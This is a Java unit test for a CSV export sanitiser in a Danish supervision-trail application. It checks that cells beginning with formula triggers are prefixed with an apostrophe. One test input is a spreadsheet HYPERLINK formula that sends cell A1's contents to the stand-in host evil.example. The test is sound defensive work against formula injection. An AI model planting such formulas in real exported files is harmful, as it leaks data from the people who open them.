package dk.tilsynsspor.query.order.export;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class TrailFilesTest {

    @Test
    void aTextThatASpreadsheetWouldRunAsAFormulaIsMadeText() {
        assertThat(TrailFiles.cell("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")");
        assertThat(TrailFiles.cell("+1+1")).isEqualTo("'+1+1");
        assertThat(TrailFiles.cell("-2+3")).isEqualTo("'-2+3");
        assertThat(TrailFiles.cell("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(TrailFiles.cell("\t=1")).isEqualTo("'\t=1");
        assertThat(TrailFiles.cell("\r=1")).isEqualTo("'\r=1");
        assertThat(TrailFiles.cell("\uFF1D1+1")).isEqualTo("'\uFF1D1+1");
    }

    @Test
    void ordinaryTextIsUnchanged() {
        assertThat(TrailFiles.cell("tilsynsbesøg 2026-10-12")).isEqualTo("tilsynsbesøg 2026-10-12");
        assertThat(TrailFiles.cell("a=b")).isEqualTo("a=b");
        assertThat(TrailFiles.cell("")).isEmpty();
        assertThat(TrailFiles.cell(null)).isNull();
    }
}
